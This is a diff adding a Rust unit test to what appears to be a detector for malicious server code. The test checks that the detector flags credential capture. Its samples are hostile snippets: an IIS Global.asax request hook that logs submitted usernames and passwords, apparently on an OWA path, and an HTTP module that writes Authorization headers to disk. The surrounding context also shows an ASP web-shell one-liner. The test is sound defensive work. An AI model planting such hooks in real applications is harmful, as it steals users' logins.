@@ -812,6 +812,26 @@ mod tests {
     }
 
     #[test]
+    fn passwords_written_to_a_file_from_an_application_hook_are_captured_credentials() {
+        let e = engine();
+        let hook = "Sub Application_BeginRequest(ByVal sender As Object,ByVal e As EventArgs)\n\
+                    Dim r As HttpRequest=HttpContext.Current.Request\nDim p As String=r.Form(\"password\")\n\
+                    Dim line As String=r.Form(\"username\")&vbTab&p\nFile.AppendAllText(LogPath,line)\nEnd Sub";
+        let shown = e.assess_code(hook, "/owa/Global.asax");
+        assert!(ids(&shown).contains(&"credential-capture"), "{:?}", ids(&shown));
+        assert!(e.severity(&shown) >= Some(Severity::High));
+        let basic = "public void Init(HttpApplication app)\n{\napp.BeginRequest+=OnBegin;\n}\nvoid OnBegin(object s,EventArgs a)\n{\n\
+                     var h=HttpContext.Current.Request.Headers[\"Authorization\"];\n\
+                     using(var w=new StreamWriter(\"c:\\\\t\\\\x.log\",true))w.WriteLine(h);\n}";
+        assert!(ids(&e.assess_code(basic, "/App_Code/M.cs")).contains(&"credential-capture"));
+        let installer =
+            "pwd=Request.Form(\"password\")\nFile.WriteAllText(Server.MapPath(\"conn.config\"),\"Password=\"&pwd)";
+        assert!(!ids(&e.assess_code(installer, "/install/setup.aspx")).contains(&"credential-capture"));
+        let names = hook.replace("r.Form(\"password\")", "r.Form(\"culture\")");
+        assert!(!ids(&e.assess_code(&names, "/Global.asax")).contains(&"credential-capture"));
+    }
+
+    #[test]
     fn request_driven_eval_alone_is_a_webshell() {
         let e = engine();
         let shown = e.assess_code("Dim o:o=Request(\"k\")\nExecute o", "/site/a.asp");
